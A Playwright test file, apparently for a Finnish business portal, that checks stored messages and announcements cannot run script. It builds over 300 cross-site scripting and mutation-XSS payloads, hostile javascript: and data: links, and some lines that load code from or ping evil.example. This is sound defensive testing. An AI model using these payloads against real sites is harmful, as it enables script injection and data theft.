import type { Page, Request } from '@playwright/test'
import { inDatabase, startOwnPortal } from '../support/databases.ts'
import { expect, test } from '../support/fixtures.ts'
import { goTo, heading, scriptOf, watchWire } from '../support/screen.ts'
import { PASSWORD, signIn } from '../support/sign-in.ts'

/** What every payload tries to run: the test looks for the mark that it would leave. */
const RUN = 'top.__hit=1'
const EVIL = 'https://evil.example'

/** Ways to run a script, from the filter evasion lists of OWASP and the fixtures of DOMPurify. */
const vectors: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}/x.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src='x'/onerror='${RUN}'//`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href="&#x6A;avascript&colon;${RUN}">x</a>`,
  `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>x</details><input autofocus onfocus=${RUN}>`,
  `<form action="javascript:${RUN}"><button id=x>x</button></form><button form=x formaction="javascript:${RUN}">x`,
  `<p style="animation-name:x" onanimationstart=${RUN} onmouseover=${RUN}>x</p><style>@import '${EVIL}/x.css'</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}"><base href="${EVIL}/">`,
  `<video><source onerror=${RUN}></video><audio src=x onerror=${RUN}></audio><body onload=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template><xss onclick=${RUN} tabindex=1 id=x>x</xss>`,
  `<link rel=stylesheet href="${EVIL}/x.css"><link rel=import href="data:text/html,<script>${RUN}</script>">`,
]

const inMiddle = (text: string, change: (sign: string) => string): string =>
  text.replace(/(?<=<\w)\w/g, change)

/** Ways to hide a payload: in markers, in other markup, in letters of another size. */
const wrappers: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `<p>Hei</p><table><tr><td>${payload}</td></tr></table>`,
  (payload) => `[txt|${payload}]`,
  (payload) => inMiddle(payload, (sign) => `[txt|${sign}]`),
  (payload) => payload.replaceAll('javascript', 'java[txt|scr[txt|ip]t]').replaceAll('on', 'o[txt|]n'),
  (payload) => payload.replaceAll('<', '[txt|<]').replaceAll('=', '=[txt|]'),
  (payload) => inMiddle(payload, (sign) => sign.toUpperCase()).replaceAll('javascript', 'JaVaScRiPt'),
  (payload) => `<a href="https://example.fi" title="x">${payload}`,
  (payload) => `"><!--><b title='[txt|'>${payload}]<!-- `,
  (payload) => `<svg><style>${payload}</style></svg><textarea>${payload}</textarea>${payload}`,
]

const IMG = `<img src=x onerror=${RUN}>`

/** Texts that the parser reads in another way the second time, or that only one of the two cleaners could miss. */
const oddities: readonly string[] = [
  `<math><annotation-xml encoding="text/html"><svg><style>${IMG}</style></svg></annotation-xml></math>`,
  `<svg><foreignObject><p><style><a title="</style>${IMG}">`,
  `<svg><desc><p title="</desc></svg>${IMG}"></desc></svg>`,
  `<svg><title><template><img title="</template></title></svg>${IMG}">`,
  `<svg><set attributeName=href to="javascript:${RUN}"/><a id=x><text>x</text></a></svg>`,
  `<a href="https://example.fi"><svg><style></a>${IMG}</style></svg>`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  `<template><template><script>${RUN}</script></template></template>`,
  `<style><!--</style>${IMG}--></style>`,
  `<xmp><p title="</xmp>${IMG}"><noembed><p title="</noembed>${IMG}"><noframes><p title="</noframes>${IMG}">`,
  `<title><p title="</title>${IMG}"><textarea><p title="</textarea>${IMG}">`,
  `<plaintext>${IMG}`,
  `<select><option><style></option></select>${IMG}</style>`,
  `<select><template><script>${RUN}</script></template></select>`,
  `<table><tbody><tr><td><table><caption>${IMG}<svg><a><caption></caption></a><style></table></style>`,
  `<form><form><math><mi><mglyph><svg><mtext><textarea><path id="</textarea>${IMG}">`,
  `<img srcset="x 1x, ${EVIL}/x.png 2x" onerror=${RUN}><picture><source srcset="${EVIL}/y.png"><img src=x></picture>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a><a href="jav&Tab;ascript&colon;${RUN}">x</a>`,
  `<a href="&NewLine;javascript:${RUN}">x</a><a href="\u0001javascript:${RUN}">x</a>`,
  `<a href="https:javascript:${RUN}">x</a>`,
  `<a href='https://example.fi' href="javascript:${RUN}">x</a>`,
  `<a href="DATA:text/html;base64,PHNjcmlwdD50b3AuX19oaXQ9MTwvc2NyaXB0Pg==">x</a>`,
  `<a href="https://example.fi" ping="${EVIL}" download target=_self rel=opener>x</a>`,
  `<a name=getElementById id=body href=https://example.fi>x</a><form id=document><input name=cookie></form>`,
  `[txt|[txt|${IMG}]]`,
  `<[txt|[txt|s]cript>${RUN}</[txt|script]>`,
  `<[t[txt|]xt|script]>${RUN}</[t[txt|]xt|script]>`,
  `<a href="[txt|[txt|java]script]:${RUN}">x</a>`,
  `&lt;[txt|script&gt;]${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;`,
  `<b <script>${RUN}</script>>x</b><b/onclick=${RUN}/x=">"${IMG}>x`,
  `<!--><script>${RUN}</script>--><!-- --!>${IMG} -->`,
  `<![CDATA[>${IMG}]]><?xml version="1.0"?><?php ${IMG} ?>`,
  `<!DOCTYPE x [<!ENTITY y "${IMG}">]>&y;</p title="${IMG}"><image src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee><body onpageshow=${RUN}><frameset onload=${RUN}>`,
  `<p popover id=x onbeforetoggle=${RUN}>x</p><button popovertarget=x>x</button>`,
  `<p contenteditable autofocus onfocus=${RUN} tabindex=0 accesskey=x hidden dir=rtl aria-label=x>x</p>`,
  `<div style="background:url(${EVIL}/x);position:fixed;inset:0">x</div><table background="${EVIL}/y">`,
  `${'<b>'.repeat(100)}${IMG}${'</b>'.repeat(100)}`,
]

/** More than 300 of them, the same in every run. */
const payloads: readonly string[] = [
  ...wrappers.flatMap((wrap) => vectors.map((vector) => wrap(vector))),
  ...oddities,
]

/** Links of announcements that must never become links. */
const hostileLinks: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  '//evil.example',
  '/\\evil.example',
  `[txt|javascript:${RUN}]`,
  `https://x.fi" onclick="${RUN}`,
  `javascript://x.fi/%0A${RUN}`,
]

/** Hostile messages and as many announcements. */
const bundle = {
  companies: [{ extId: 'T1', name: 'Kioski', businessId: '1234567-1' }],
  users: [
    { extId: 'U1', username: 'lukija', firstName: 'Liisa', lastName: 'Lukija', emailAddress: 'l@example.fi' },
  ],
  roles: [{ user: 'U1', company: 'T1' }],
  messages: payloads.map((body, index) => ({
    extId: `M${index}`,
    company: 'T1',
    header: `Nro ${index}`,
    body,
    created: '2026-11-15T08:00:00Z',
  })),
  announcements: payloads.map((kuvaus, index) => ({
    viite: `A${index}`,
    kuvaus,
    arvo: hostileLinks[index % hostileLinks.length],
  })),
}

const quoted = (text = '') => `$raw$${text}$raw$`
const rowsOf = (rows: readonly (readonly (string | undefined)[])[]) =>
  rows.map((row) => `(${row.map(quoted).join(', ')})`).join(', ')

/** The texts as the server has taken them in, and as if it had not cleaned them, which no setting of the product can do. */
const texts = {
  cleaned: { messages: 'select * from cleaned_message', announcements: 'select * from cleaned_announcement' },
  raw: {
    messages: `values ${rowsOf(bundle.messages.map(({ extId, body }) => [extId, body]))}`,
    announcements: `values ${rowsOf(bundle.announcements.map(({ viite, kuvaus, arvo }) => [viite, kuvaus, arvo]))}`,
  },
}

async function start() {
  const portal = await startOwnPortal()
  await portal.importBundle(bundle)
  await portal.setPassword('lukija')
  const run = (statements: readonly string[]) =>
    inDatabase(portal.database, ({ runApart }) => runApart(statements))
  await run([
    'create table cleaned_message as select ext_id, body from message',
    'create table cleaned_announcement as select viite, kuvaus, arvo from announcement',
  ])
  const store = (how: keyof typeof texts) =>
    run([
      `update message set body = stored.body from (${texts[how].messages}) as stored (ext_id, body)
       where message.ext_id = stored.ext_id`,
      `update announcement set kuvaus = stored.kuvaus, arvo = stored.arvo
       from (${texts[how].announcements}) as stored (viite, kuvaus, arvo) where announcement.viite = stored.viite`,
    ])
  return { ...portal, store }
}

type Portal = Awaited<ReturnType<typeof start>>
let portal: Portal

// One worker: the server is started once.
test.describe.configure({ mode: 'default' })

test.beforeAll(async () => {
  portal = await start()
})
test.afterAll(() => portal.stop())

/** Everything that leaves the portal: dialogs, new pages and calls to other servers. */
function watch(page: Page, origin: string): string[] {
  const seen: string[] = []
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.context().on('page', (opened) => seen.push(`page ${opened.url()}`))
  const note = (request: Request) => {
    if (!request.url().startsWith(origin)) seen.push(`request ${request.url()}`)
  }
  page.on('requestfinished', note)
  // What the policy stops never leaves the browser.
  page.on('requestfailed', (request) => void (request.failure()?.errorText === 'csp' || note(request)))
  return seen
}

type StoredMessage = { readonly id: number; readonly header: string; readonly body: string }

async function storedMessages(page: Page): Promise<readonly StoredMessage[]> {
  const data = { username: 'lukija', password: PASSWORD }
  const { token } = (await (await page.request.post(`${portal.address}/api/login`, { data })).json()) as {
    token: string
  }
  const headers = { authorization: `Bearer ${token}` }
  const answer = await page.request.get(`${portal.address}/api/messages`, { headers })
  return ((await answer.json()) as { messages: readonly StoredMessage[] }).messages
}

/** Opens every message in turn, presses everything in it, and returns what should not be there. */
async function openAll(page: Page): Promise<readonly string[]> {
  const messages = await storedMessages(page)
  expect(messages).toHaveLength(payloads.length)
  await signIn(page, `${portal.address}/viestit/${messages[0]?.id}`, 'lukija')
  await expect(page.getByRole('link', { name: 'Lähetä tiedustelu' })).toBeVisible()
  const wire = watchWire(page)
  const odd = await page.evaluate(async (list) => {
    const allowed =
      /^(H3|P|BR|HR|DIV|BLOCKQUOTE|PRE|[UOD]L|LI|D[TD]|TABLE|CAPTION|T(HEAD|BODY|FOOT|R|H|D)|A|B|STRONG|I|EM|U|S|SMALL|SU[BP]|CODE|SPAN)$/
    const events = ['click', 'mouseover', 'focus', 'toggle', 'animationstart', 'error', 'load', 'begin']
    const odd: string[] = []
    const main = () => document.querySelector('main')
    for (const { id, header } of list) {
      history.pushState({}, '', `/viestit/${id}`)
      dispatchEvent(new PopStateEvent('popstate'))
      while (main()?.querySelector('h2')?.textContent !== header)
        await new Promise((done) => setTimeout(done))
      const body = main()?.querySelector('[class*=body]')
      if (!body) odd.push(`${header}: no body`)
      for (const element of body?.querySelectorAll('*') ?? []) {
        const names = element.getAttributeNames().filter((name) => !/^(href|rel|target)$/.test(name))
        if (!allowed.test(element.tagName) || names.length > 0) odd.push(`${header}: ${element.outerHTML}`)
        const href = element.getAttribute('href')
        if (href !== null && !/^(https?|mailto|tel):/.test(href)) odd.push(`${header}: ${href}`)
        // A link to the web would open it; any other may be pressed.
        if (/^https?:/.test(href ?? '')) continue
        for (const name of events) element.dispatchEvent(new Event(name, { bubbles: true, cancelable: true }))
        if (element instanceof HTMLAnchorElement) element.click()
      }
    }
    return odd
  }, messages)
  // What a broken picture or a frame would run, it runs once its call is over.
  await wire.quiet()
  const ran = await page.evaluate(async () => {
    await new Promise((done) => requestIdleCallback(done))
    return '__hit' in window
  })
  return ran ? [...odd, 'a script ran'] : odd
}

/** The browser's cleaning, in a patched copy of the built file, becomes the identity under the name of its policy. */
async function stopCleaningInBrowser(page: Page): Promise<() => number> {
  let patched = 0
  const identity =
    '(html=>(globalThis.__policy??=trustedTypes.createPolicy("dompurify",{createHTML:text=>text})).createHTML(html))('
  await page.route(scriptOf('MessageScreen'), async (route) => {
    const response = await route.fetch()
    const source = (await response.text()).replaceAll(/\b[\w$]+\.sanitize\(/g, () => {
      patched += 1
      return identity
    })
    await route.fulfill({ response, body: source })
  })
  return () => patched
}

test('hostile messages run nothing under the security policy alone [R-MSG-07]', async ({ page, faults }) => {
  faults.expect(/./)
  await portal.store('raw')
  await stopCleaningInBrowser(page)
  const seen = watch(page, portal.address)
  const odd = await openAll(page)
  // The markup is really there, but none of it has run or sent anything.
  expect(odd.length).toBeGreaterThan(payloads.length / 2)
  expect(odd).not.toContain('a script ran')
  expect(seen).toEqual([])
})

test.describe('without the security policy', () => {
  test.use({ bypassCSP: true, newBrowser: true })

  test('hostile messages run nothing when the browser alone cleans them [R-MSG-07]', async ({ page }) => {
    await portal.store('raw')
    const bodies = (await storedMessages(page)).map(({ body }) => body)
    expect(bodies.toSorted()).toEqual(payloads.toSorted())
    const seen = watch(page, portal.address)
    expect(await openAll(page)).toEqual([])
    expect(seen).toEqual([])
  })

  test('hostile messages run nothing when the server alone cleans them [R-MSG-07]', async ({ page }) => {
    await portal.store('cleaned')
    const patched = await stopCleaningInBrowser(page)
    const seen = watch(page, portal.address)
    expect(await openAll(page)).toEqual([])
    expect(seen).toEqual([])
    expect(patched()).toBe(1)
  })
})

test('hostile announcements run nothing and lead nowhere [R-FRONT-05]', async ({ page }) => {
  const seen = watch(page, portal.address)
  await signIn(page, `${portal.address}/viestit/luetut`, 'lukija')
  // A list, since a message that was long in sight above may be among the read ones.
  await expect(heading(page, 'Luetut viestit')).toBeVisible()
  for (const how of ['cleaned', 'raw'] as const) {
    await portal.store(how)
    await goTo(page, '/viestit/luetut')
    await page.reload()
    await expect(heading(page, 'Luetut viestit')).toBeVisible()
    await goTo(page, '/')
    const told = page.getByRole('region', { name: 'Tiedotteet', exact: true })
    await expect(told.getByText(payloads[0] ?? '', { exact: true }).first()).toBeVisible()
    await expect(told.getByRole('link', { name: 'Lue lisää' })).toHaveCount(0)
    const odd = 'script, img, svg, iframe, object, form, [onerror], [onload]'
    await expect(told.locator(odd)).toHaveCount(0)
    // The icons of the rest of the page are ours.
    const strange = odd.replace('svg', 'svg:not([aria-hidden="true"])')
    await expect(page.getByRole('main').locator(strange)).toHaveCount(0)
    expect(await page.evaluate(() => '__hit' in window)).toBe(false)
  }
  expect(seen).toEqual([])
})
